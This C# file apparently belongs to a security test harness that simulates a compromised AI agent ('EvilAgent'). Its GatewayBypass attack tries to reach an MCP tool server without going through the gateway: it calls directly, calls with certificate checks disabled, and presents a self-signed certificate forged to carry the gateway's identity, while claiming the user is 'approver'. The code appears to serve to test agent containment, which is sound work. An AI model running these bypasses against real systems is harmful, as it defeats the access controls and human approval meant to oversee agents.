using System.Net.Security;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text.Json.Nodes;
using Castellan.AgentApi.Workloads;
using Castellan.SpiffeIdentity;

namespace Castellan.EvilAgent;

/// <summary>Attack 1: a tool server, past the gateway.</summary>
internal static class GatewayBypass
{
    public static async Task<AttackResult> TryAsync(Foothold pod, Orders orders, CancellationToken ct)
    {
        var address = new Uri($"https://{orders["server"]}");
        using var asItself = new HttpClient(SpiffeTls.CreateHandler(pod.Identity, SpiffeAuthorizer.InTrustDomain(pod.Identity.Current.Svid.Id.TrustDomain))) { BaseAddress = address };
        using var asNobody = new HttpClient(Believing(null)) { BaseAddress = address };
        using var forged = ForgedGateway();
        using var asGateway = new HttpClient(Believing(forged)) { BaseAddress = address };
        return new([
            await CallAsync("call the tool server directly, with the agent's own SVID", asItself, ct).ConfigureAwait(false),
            await CallAsync("the same without a certificate", asNobody, ct).ConfigureAwait(false),
            await CallAsync("the same with a certificate of its own making that says it is the gateway", asGateway, ct).ConfigureAwait(false),
        ]);
    }

    private static Task<Attempt> CallAsync(string tried, HttpClient http, CancellationToken ct) => Foothold.SendAsync(tried, http, Foothold.Post("/mcp", new JsonObject
    {
        ["jsonrpc"] = "2.0",
        ["id"] = 1,
        ["method"] = "tools/list",
        ["params"] = new JsonObject { ["_meta"] = new JsonObject { ["castellan.dev/call"] = new JsonObject { ["user"] = "approver" } } },
    }), ct);

    private static SocketsHttpHandler Believing(X509Certificate2? own) => new()
    {
        SslOptions = new SslClientAuthenticationOptions
        {
            RemoteCertificateValidationCallback = (_, _, _, _) => true,
            LocalCertificateSelectionCallback = own is null ? null : (_, _, _, _, _) => own,
        },
    };

    private static X509Certificate2 ForgedGateway()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var request = new CertificateRequest("CN=gateway", key, HashAlgorithmName.SHA256);
        var names = new SubjectAlternativeNameBuilder();
        names.AddUri(new Uri(Environment.GetEnvironmentVariable(WorkloadEnvironment.GatewayId)!));
        request.CertificateExtensions.Add(names.Build());
        request.CertificateExtensions.Add(new X509KeyUsageExtension(X509KeyUsageFlags.DigitalSignature, critical: true));
        var now = TimeProvider.System.GetUtcNow();
        using var certificate = request.CreateSelfSigned(now.AddMinutes(-5), now.AddHours(1));
        return X509CertificateLoader.LoadPkcs12(certificate.Export(X509ContentType.Pkcs12), null);
    }
}
